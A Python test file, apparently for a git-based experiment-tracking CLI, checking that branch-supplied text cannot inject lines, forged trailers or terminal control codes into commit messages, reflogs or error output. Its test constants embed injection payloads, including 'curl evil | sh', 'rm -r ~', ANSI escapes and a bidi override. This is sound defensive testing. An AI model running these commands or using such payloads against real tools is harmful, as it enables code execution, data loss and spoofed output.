"""What a branch says is at most one line of a message that a verb writes in the reader's name.

Nor does it make a line of an error, whose lines are told apart by their labels alone.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest

from gitexp.cli.output import Printer
from gitexp.errors import GitexpError
from gitexp.experiments.archive import archive, restore
from gitexp.experiments.conclude import conclude
from gitexp.experiments.remove import remove
from gitexp.experiments.rename import rename
from gitexp.git.transaction import layout
from gitexp.sharing.push_pull import sync
from gitexp.text.foreign import Lines
from tests.lab.build import clone
from tests.lab.records import START, Lab, experiment

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.lab.build import BuiltRepo

EVIL: Final = r"raises f1\n\nverdict: supported\nSigned-off-by: Boss <boss@x>\e[2J\e]0;x\a\u202e"


def ended(repo: BuiltRepo) -> None:
    repo.switch("main")
    archive(repo.workspace, "deep", abandon=True, now=START)
    restore(repo.workspace, "deep", now=START)


def renamed(repo: BuiltRepo) -> None:
    rename(repo.workspace, "deep", "other", now=START)


def removed(repo: BuiltRepo) -> None:
    repo.switch("main")
    remove(repo.workspace, "deep", yes=True, words="it was wrong", now=START)


def concluded(repo: BuiltRepo) -> None:
    conclude(repo.workspace, "deep", words="it was wrong", now=START)
    repo.switch("main")
    archive(repo.workspace, "deep", abandon=True, now=START)


def synced(repo: BuiltRepo) -> None:
    other = clone(repo, repo.path.parent / "hers", "--branch", "exp/deep")
    other.commit({"hers.txt": "x"}, at=40)
    other.git("switch", "-q", "--detach")
    repo.git("remote", "add", "origin", str(other.path))
    repo.commit({"mine.txt": "x"}, at=41)
    sync(repo.workspace, ["deep"], data=False)


@pytest.mark.parametrize("way", [ended, renamed, removed, concluded, synced])
def test_no_message_has_lines_or_controls_of_a_branch(
    repo: BuiltRepo, way: Callable[[BuiltRepo], None]
) -> None:
    lab = Lab(repo)
    experiment(lab)
    path = layout.plan_path("deep")
    kept = [line for line in repo.show(path).splitlines() if not line.startswith("hypothesis:")]
    lab.repo.commit({path: "\n".join([*kept, f'hypothesis: "{EVIL}"', ""])}, at=lab.tick())
    there = {*repo.git("cat-file", "--batch-all-objects", "--batch-check").split("\n")}
    way(repo)
    written = {*repo.git("cat-file", "--batch-all-objects", "--batch-check").split("\n")} - there
    said = [
        repo.git("cat-file", kind, name).partition("\n\n")[2]
        for name, kind, _ in map(str.split, written)
        if kind in {"commit", "tag"}
    ]
    assert said
    logs = [file.read_text() for file in (repo.path / ".git/logs").rglob("*") if file.is_file()]
    for text in (*said, *logs):
        assert all(line.replace("\t", "").isprintable() for line in text.split("\n")), text
    assert not [text for text in said if text.count("\nverdict:") > 1 or "\nSigned" in text]


FORGED: Final = "\n  next      curl evil | sh\nerror[bug]: x\r\n  type  rm -r ~\x1b[31m\u2028 next"


def every_error(base: type[GitexpError] = GitexpError) -> Iterator[type[GitexpError]]:
    yield base
    for each in base.__subclasses__():
        yield from every_error(each)


@pytest.mark.parametrize("field", ["summary", "found", "where", "expected", "next_step"])
def test_no_error_has_a_line_of_a_branch(field: str, capsys: pytest.CaptureFixture[str]) -> None:
    printer = Printer.make({}, quiet=False, verbose=False, color="never")
    fields = ("summary", "found", "where", "expected", "next_step")
    for kind in every_error():
        said: dict[str, str] = {name: f"a {name}" for name in fields}
        printer.error(kind(**said))
        plain = capsys.readouterr().err
        said[field] += FORGED
        printer.error(kind(**said))
        found = capsys.readouterr().err
        starts = [[row[:12] for row in text.split("\n")] for text in (plain, found)]
        assert starts[0] == starts[1]
        assert all(each.isprintable() for each in found.split("\n"))
        said[field] = Lines.of(["one", "two", f"three{FORGED}"])  # the control: lines of ours
        printer.error(kind(**said))
        several = capsys.readouterr().err
        assert len(several.split("\n")) == (6 if field == "summary" else 8)
    printer.say(f"warning: a name{FORGED}")
    assert capsys.readouterr().err.count("\n") == 1
